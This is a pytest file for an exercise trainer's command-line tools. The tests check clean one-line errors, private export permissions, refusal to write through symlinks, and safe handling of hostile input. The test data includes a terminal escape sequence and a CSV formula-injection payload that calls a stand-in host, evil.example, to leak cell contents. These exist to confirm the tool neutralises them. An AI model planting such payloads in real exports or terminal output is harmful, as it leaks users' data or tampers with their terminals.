"""The plain commands and the launcher on odd input: one clear line and a non-zero status,
or quietly correct; never a traceback, never a file another user can read or a link
written through, never a spreadsheet formula or an escape sequence passed on."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from rich.console import Console
from session_factory import done, session

from trainer.cli.launch import exit_status, parse_speed
from trainer.cli.main import main
from trainer.cli.stats import print_stats, say_problems
from trainer.core.catalogue.model import Catalogue
from trainer.core.store.files import open_store
from trainer.core.store.protocol import MemoryStore, StateFileProblem
from trainer.exitcodes import EXIT_CLOSED_PIPE
from trainer.paths import bundled_catalogue

ESCAPE = "\x1b]0;owned\x07"
START = datetime(2026, 11, 1, 7, 30, tzinfo=UTC)


def no_traceback(text: str) -> bool:
    return "Traceback" not in text and "Error:" not in text.split("\n")[-1]


def state_with(tmp_path: Path, count: int, plan_id: str = "daily-stretches") -> Path:
    state = tmp_path / "exercises.progress.toml"
    store = open_store(state)
    for day in range(count):
        started = START + timedelta(days=day)
        store.save_session(
            session(started, done("cat-cow", sets=3, finished=started), plan_id=plan_id)
        )
    store.close()
    return state


# --------------------------------------------------------------------------- TRAINER_SPEED


@pytest.mark.parametrize("speed", ["abc", "0", "-1", "nan", "inf", "-inf", "1e-300", "1e308"])
def test_a_speed_that_is_no_speed_is_one_line_and_status_2(
    speed: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("TRAINER_SPEED", speed)
    assert main([]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "TRAINER_SPEED" in err and no_traceback(err)


@pytest.mark.parametrize(
    ("text", "speed"), [(None, 1.0), ("", 1.0), ("10", 10.0), (" 2.5 ", 2.5), ("0.5", 0.5)]
)
def test_a_good_speed_is_read(text: str | None, speed: float) -> None:
    assert parse_speed(text) == speed


# --------------------------------------------------------------------------- exit status


@pytest.mark.parametrize(
    ("result", "code", "status"),
    [
        (None, 0, 0),
        (None, 1, 1),
        (None, None, 1),
        (129, 129, 129),
        (None, 143, 143),
    ],
)
def test_no_exit_code_is_never_read_as_success(
    result: int | None, code: int | None, status: int
) -> None:
    assert exit_status(result, code) == status


def test_a_crash_in_the_app_exits_non_zero() -> None:
    """Textual shows the error and returns None from run(): that is not a success."""
    from textual.app import App, ComposeResult
    from textual.widgets import Static

    class Crashing(App[int]):
        def compose(self) -> ComposeResult:
            yield Static("x")

        def on_mount(self) -> None:
            raise OSError(28, "No space left on device")

    app = Crashing()
    result = app.run(headless=True)
    assert result is None
    assert exit_status(result, app.return_code) != 0


# --------------------------------------------------------------------------- closed pipes


@pytest.mark.parametrize("command", ["export", "stats"])
def test_a_closed_pipe_ends_the_command_quietly(tmp_path: Path, command: str) -> None:
    """`trainer export | head -1`: the reader is gone before the rows are written."""
    state = state_with(tmp_path, 30)
    catalogue = str(bundled_catalogue())
    writer = subprocess.Popen(
        [sys.executable, "-m", "trainer", "--catalogue", catalogue, "--state", str(state), command],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert writer.stdout is not None and writer.stderr is not None
    writer.stdout.close()  # as `head` does once it has its line
    err = writer.stderr.read().decode()
    assert writer.wait(timeout=60) == EXIT_CLOSED_PIPE
    assert err == ""


# --------------------------------------------------------------------------- odd state


@pytest.mark.parametrize("command", ["stats", "export"])
def test_a_file_where_the_history_folder_goes_is_one_line(
    tmp_path: Path, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    state = state_with(tmp_path, 1)
    folder = tmp_path / "exercises.progress.d"
    for path in sorted(folder.rglob("*"), reverse=True):
        path.rmdir() if path.is_dir() else path.unlink()
    folder.rmdir()
    folder.write_text("not a folder")
    status = main(["--catalogue", str(bundled_catalogue()), "--state", str(state), command])
    err = capsys.readouterr().err
    assert status != 0
    assert no_traceback(err) and "exercises.progress.d" in err
    assert len(err.strip().splitlines()) <= 2


def test_files_moved_aside_are_named_on_stderr_escaped(
    capsys: pytest.CaptureFixture[str],
) -> None:
    store = MemoryStore()
    store.history_problems.append(
        StateFileProblem(
            Path(f"sessions/2026-11{ESCAPE}.toml"),
            "not valid TOML",
            Path("sessions/2026-11.toml.corrupt-1"),
        )
    )
    say_problems(store)
    err = capsys.readouterr().err
    assert "sessions/2026-11.toml.corrupt-1" in err
    assert "\x1b" not in err and "\\x1b]0;owned\\x07" in err


def test_stats_never_print_an_escape_from_the_state(bundled_catalogue: Catalogue) -> None:
    store = MemoryStore()
    exercise = done("cat-cow", sets=1, finished=START, pain_stop="sharp")
    exercise.exercise_id = f"cat-cow{ESCAPE}[/bold]"
    store.save_session(session(START, exercise, plan_id=f"plan{ESCAPE}"))
    for terminal in (False, True):
        out = io.StringIO()
        print_stats(
            Console(file=out, width=80, force_terminal=terminal, markup=False),
            store,
            bundled_catalogue,
            START.date(),
        )
        assert "\x07" not in out.getvalue() and "\x1b]" not in out.getvalue()


# --------------------------------------------------------------------------- export files


def test_an_export_file_is_private_whatever_the_umask(tmp_path: Path) -> None:
    state = state_with(tmp_path, 2)
    out = tmp_path / "log.csv"
    old = os.umask(0)
    try:
        assert main(["--state", str(state), "export", "--out", str(out)]) == 0
        out.write_text("an older export\n")
        out.chmod(0o644)
        assert main(["--state", str(state), "export", "--out", str(out)]) == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_text().startswith("session_id,")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".log")] == []


def test_an_export_never_writes_through_a_link(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    state = state_with(tmp_path, 2)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    link = tmp_path / "log.csv"
    link.symlink_to(victim)
    assert main(["--state", str(state), "export", "--out", str(link)]) == 1
    assert victim.read_text() == "precious\n" and link.is_symlink()
    assert "symbolic link" in capsys.readouterr().err


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_be_formulas_are_neutralised(
    tmp_path: Path, start: str, capsys: pytest.CaptureFixture[str]
) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    state = state_with(tmp_path, 1, plan_id=formula)
    assert main(["--state", str(state), "export"]) == 0
    row = next(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert row["plan_id"] == "'" + formula
    assert row["pain_before"] == "" and row["reps_done"] == "10"


@pytest.mark.parametrize(
    ("error", "said"),
    [
        (RecursionError(), "nests too deeply"),
        (OverflowError("date value out of range"), "out of range"),
        (MemoryError(), "too large"),
        (ValueError("odd"), "unexpected ValueError: odd"),
    ],
)
def test_an_error_nobody_foresaw_is_one_line_and_status_1(
    error: Exception,
    said: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The last resort in `main`: whatever a state file still gets past the checks."""
    import trainer.cli.stats as stats_command

    def fail(*args: object) -> int:
        raise error

    monkeypatch.setattr(stats_command, "run", fail)
    assert main(["stats"]) == 1
    err = capsys.readouterr().err
    assert said in err and err.count("\n") == 1 and no_traceback(err)
